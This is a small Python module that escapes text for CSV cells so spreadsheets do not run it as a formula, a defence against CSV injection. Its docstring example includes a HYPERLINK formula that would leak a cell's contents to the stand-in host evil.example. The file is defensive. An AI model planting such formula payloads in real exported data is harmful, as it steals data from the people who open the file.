"""Cells a spreadsheet must never run: text that opens with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read by Excel, LibreOffice and Google Sheets as a formula (OWASP "CSV injection"). A task text or a title is
whatever a document said, so every writer passes its text through here.

>>> csv_text("=HYPERLINK(\\"http://evil.example/?d=\\"&A2)")
'\\'=HYPERLINK("http://evil.example/?d="&A2)'
>>> csv_text("Đảng ủy Khối"), csv_text("-"), is_formula_like("- Tuyên truyền")
('Đảng ủy Khối', "'-", True)
"""

from __future__ import annotations

__all__ = ["FORMULA_STARTS", "csv_text", "is_formula_like"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would take ``text`` for a formula."""
    return text.startswith(FORMULA_STARTS)


def csv_text(text: str) -> str:
    """``text`` for a CSV cell: a formula-like one prefixed with ``'`` (shown as text, the quote hidden)."""
    return "'" + text if is_formula_like(text) else text
